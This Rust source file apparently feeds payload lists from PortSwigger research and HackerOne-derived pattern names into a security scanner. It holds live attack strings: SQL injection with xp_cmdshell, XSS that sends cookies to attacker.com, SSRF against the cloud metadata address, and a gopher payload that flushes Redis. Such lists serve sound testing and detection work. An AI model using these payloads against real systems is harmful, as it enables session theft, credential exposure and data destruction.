//! Curated feed snapshots compiled into the binary.
//!
//! These are static captures of published research, not live fetches; a
//! refresh means shipping a new snapshot or dropping a YAML feed file next
//! to the store.

use super::FeedSource;
use crate::models::Category;

/// Payload sets captured from PortSwigger research publications.
pub struct PortswiggerResearch;

impl FeedSource for PortswiggerResearch {
    fn name(&self) -> &str {
        "portswigger"
    }

    fn payloads(&self) -> Vec<(Category, String)> {
        let sql_injection = [
            "' OR '1'='1'--",
            "' UNION SELECT NULL--",
            "' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
            "'; EXEC xp_cmdshell('dir')--",
        ];
        let xss = [
            "<script>fetch('/log?c='+document.cookie)</script>",
            "<img src=x onerror=this.src='http://attacker.com/?c='+document.cookie>",
            "javascript:eval(atob('{}'.format(base64_payload)))",
            "<svg onload=alert(1)>",
        ];
        let ssrf = [
            "http://169.254.169.254/latest/meta-data/",
            "http://localhost:22",
            "http://127.0.0.1:8338/",
            "gopher://localhost:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a",
        ];

        let tag = |category: Category, payloads: &[&str]| {
            payloads
                .iter()
                .map(|p| (category.clone(), p.to_string()))
                .collect::<Vec<_>>()
        };

        let mut entries = tag(Category::SqlInjection, &sql_injection);
        entries.extend(tag(Category::Xss, &xss));
        entries.extend(tag(Category::Ssrf, &ssrf));
        entries
    }
}

/// Detection patterns distilled from disclosed HackerOne reports.
pub struct HackeroneReports;

impl FeedSource for HackeroneReports {
    fn name(&self) -> &str {
        "hackerone"
    }

    fn patterns(&self) -> Vec<(String, String)> {
        [
            ("sql_injection", "parameter pollution with SQLi"),
            ("xss", "DOM XSS via postMessage"),
            ("ssrf", "SSRF to internal services"),
        ]
        .iter()
        .map(|(name, logic)| (name.to_string(), logic.to_string()))
        .collect()
    }
}
